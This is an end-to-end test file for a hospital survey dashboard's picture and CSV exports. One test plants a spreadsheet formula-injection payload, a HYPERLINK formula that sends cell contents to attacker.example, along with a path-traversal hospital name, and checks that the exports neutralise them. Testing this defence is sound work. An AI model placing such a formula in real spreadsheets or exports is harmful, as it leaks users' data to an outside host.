import { readFile } from 'node:fs/promises'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Page } from 'playwright-core'
import { linesOf } from '../../site/src/lib/lines.ts'
import { openSite } from './site.ts'
import type { Site } from './site.ts'

/** What can be saved from the survey page: pictures and CSV files, in Chromium. */

let site: Site
beforeAll(async () => {
  site = await openSite()
})
afterAll(() => site?.close())

const drawn = (page: Page) => page.locator('#trend-chart[data-drawn] canvas').waitFor()

async function saved(page: Page, section: string, kind: 'picture' | 'csv') {
  const download = page.waitForEvent('download')
  await page.locator(`#${section} [data-save=${kind}]`).click()
  const file = await download
  return { name: file.suggestedFilename(), content: await readFile(await file.path()) }
}
/** Width and height as the head of a PNG says them. */
const sizeOf = (png: Buffer) => [png.readUInt32BE(16), png.readUInt32BE(20)]

describe('a picture', () => {
  test('is a slide in light colours, whatever theme and width the screen has', async () => {
    const pictures = []
    for (const options of [
      { colorScheme: 'light', viewport: { width: 1440, height: 900 } },
      { colorScheme: 'dark', viewport: { width: 375, height: 800 } },
    ] as const) {
      const { page, faults } = await site.openAsViewer(options)
      await page.goto('/admin/survey/')
      await drawn(page)
      pictures.push((await saved(page, 'trend', 'picture')).content)
      expect(faults).toEqual([])
    }
    const [light, dark] = pictures as [Buffer, Buffer]
    expect(light.subarray(1, 4).toString()).toBe('PNG')
    expect(sizeOf(light)).toEqual([1920, 1080])
    expect(dark.equals(light)).toBe(true)
  })

  test('is not offered where no chart could be drawn, and a failure is told', async () => {
    const { page } = await site.openAsViewer({ locale: 'en' })
    await page.route('**/chart-parts*.js', (route) => route.abort())
    await page.goto('/admin/survey/')
    await page.locator('#trend-failed').waitFor()
    expect(await page.locator('#trend [data-save=picture]').isVisible()).toBe(false)
    expect(await page.locator('#trend [data-save=csv]').isVisible()).toBe(true)

    const other = await site.openAsViewer({ locale: 'en' })
    await other.page.route('**/picture*.js', (route) => route.abort())
    await other.page.goto('/admin/survey/')
    await drawn(other.page)
    await other.page.locator('#trend [data-save=picture]').click()
    await expect
      .poll(() => other.page.locator('#status').textContent())
      .toMatch('The picture could not be made')
  })
})

describe('a CSV file', () => {
  test('has the table as it is shown, numbers plain, and what it rests on', async () => {
    const { page, faults } = await site.openAsViewer({ locale: 'en' })
    await page.goto('/admin/survey/?department=rehabilitation&channel=qr&period=last-month')
    await page.locator('#departments-table tbody').waitFor()
    const { name, content } = await saved(page, 'departments', 'csv')
    expect(name).toMatch(
      /^Yingchuan-Hospital_[\w-]+_Departments_qr_20\d\d-\d\d-01-20\d\d-\d\d-\d\d\.csv$/,
    )
    expect([...content.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = content.toString('utf8').slice(1).split('\r\n')
    expect(lines[0]).toMatch(/^Department,NPS,Margin,Answers/)
    const rows = await page.locator('#departments-table tbody tr').count()
    const shown = lines.slice(1, 1 + rows)
    expect(
      shown.filter((line) =>
        /^[A-Z][a-z]+,-?[\d.]+,(\d[\d.]*|"?'?-?[\d.]+ … [\d.]+"?),\d+/.test(line),
      ).length,
    ).toBeGreaterThan(3)
    expect(
      shown.some((line) => line.includes(' … ')),
      'few answers have no ±',
    ).toBe(true)
    expect(shown.filter((line) => /Hidden|No data/.test(line)).length).toBeGreaterThan(0)
    expect(lines).toContain('Hospital,Yingchuan Hospital')
    expect(lines).toContain('Channel,QR code')
    expect(lines).toContain('Demo data: this hospital and all of its answers are made up.')
    expect(lines.at(-1)).toBe('')
    expect(lines.join('\n')).toMatch(/Here: .*; margin: beside each figure/)
    expect(await page.locator('#status').textContent()).toBe(`Saved as ${name}.`)
    // The same as a picture, as high as its bars want it.
    await page.locator('#departments-chart[data-drawn]').waitFor({ state: 'attached' })
    const picture = await saved(page, 'departments', 'picture')
    expect(picture.name).toBe(name.replace(/csv$/, 'png'))
    const [width, height] = sizeOf(picture.content) as [number, number]
    expect(width).toBe(1920)
    expect(height).toBeGreaterThan(2 * 16 * 2 * (rows + 1))
    expect(faults).toEqual([])
  })

  test('names days as they are sorted, the year and those of the period before included', async () => {
    const { page } = await site.openAsViewer({ locale: 'en' })
    await page.goto(
      '/admin/survey/?period=last-30-days&grain=week&compare=previous&question=revisit',
    )
    await drawn(page)
    const weeks = (await saved(page, 'trend', 'csv')).content.toString('utf8').split('\r\n')
    // The first week of a period may be a day of it.
    const week = String.raw`20\d\d-\d\d-\d\d(?: – 20\d\d-\d\d-\d\d)?`
    expect(weeks[1]).toMatch(new RegExp(`^${week},.*,${week},`))
    // And what the figure is the share of.
    expect(weeks.join('\n')).toMatch(/^Figure,Best answers: Share who gave the best answer: “5/m)
    const days = (await saved(page, 'days', 'csv')).content.toString('utf8').split('\r\n')
    expect(days[1]).toMatch(/^20\d\d-\d\d-\d\d,(\d+|Hidden)$/)
  })

  test('says too few in words in every column it hides, never as a zero', async () => {
    const { page } = await site.openAsViewer({ locale: 'en' })
    await page.goto('/admin/survey/?department=rehabilitation&grain=week')
    await page.locator('#trend-hidden').waitFor()
    // What is hidden is no picture.
    expect(await page.locator('#trend [data-save=picture]').isVisible()).toBe(false)
    const { content } = await saved(page, 'trend', 'csv')
    const hidden = content.toString('utf8').match(/^.*Hidden.*$/gm) ?? []
    expect(hidden.length).toBeGreaterThan(0)
    for (const line of hidden) expect(line).not.toMatch(/,0\b|,,|,$/)
  })

  test('and its name hold what people wrote as words', async () => {
    const { db } = site.stack
    const hostile = `=HYPERLINK("http://attacker.example?x="&A1,"../../x")`
    const name = '{"zh-Hans": "口腔科", "zh-Hant": "牙科", "en": "Dentistry"}'
    const rename = (names: string) =>
      db.query(`update public.departments set names = $1::jsonb where code = 'dentistry'`, [names])
    await rename(JSON.stringify({ 'zh-Hans': hostile }))
    await db.query(
      `update public.hospitals set names = '{"en": "../映川: =1+1"}' where slug = 'demo'`,
    )
    try {
      const { page } = await site.openAsViewer({ locale: 'en' })
      await page.goto('/admin/survey/?department=dentistry')
      await drawn(page)
      const file = await saved(page, 'departments', 'csv')
      expect(file.name).toMatch(/^映川-1-1_[\w-]+\.csv$/)
      const csv = file.content.toString('utf8')
      expect(csv).toContain(`"'${hostile.replaceAll('"', '""')}"`)
      expect(csv).not.toMatch(/(^|[,"])=/m)
    } finally {
      await rename(name)
      await db.query(
        `update public.hospitals set names = '{"zh-Hans": "映川医院", "zh-Hant": "映川醫院", "en": "Yingchuan Hospital"}' where slug = 'demo'`,
      )
    }
  })
})

describe('lines of a picture', () => {
  const measure = (text: string) => [...text].length
  test('break between words and between Chinese characters, never before punctuation', () => {
    expect(linesOf('From here to there', 9, measure)).toEqual(['From here', 'to there'])
    expect(linesOf('差异在误差范围之内，不能', 9, measure)).toEqual([
      '差异在误差范围之',
      '内，不能',
    ])
    expect(linesOf('有 11 个时段', 4, measure)).toEqual(['有 11', '个时段'])
    expect(linesOf('由 +4.1 ± 1.2（十月）', 6, measure)).toEqual(['由 +4.1', '± 1.2', '（十月）'])
  })
  test('keep every word', () => {
    expect(linesOf('', 5, measure)).toEqual([])
    expect(linesOf('incomprehensibilities a', 5, measure)).toEqual(['incomprehensibilities', 'a'])
  })
})
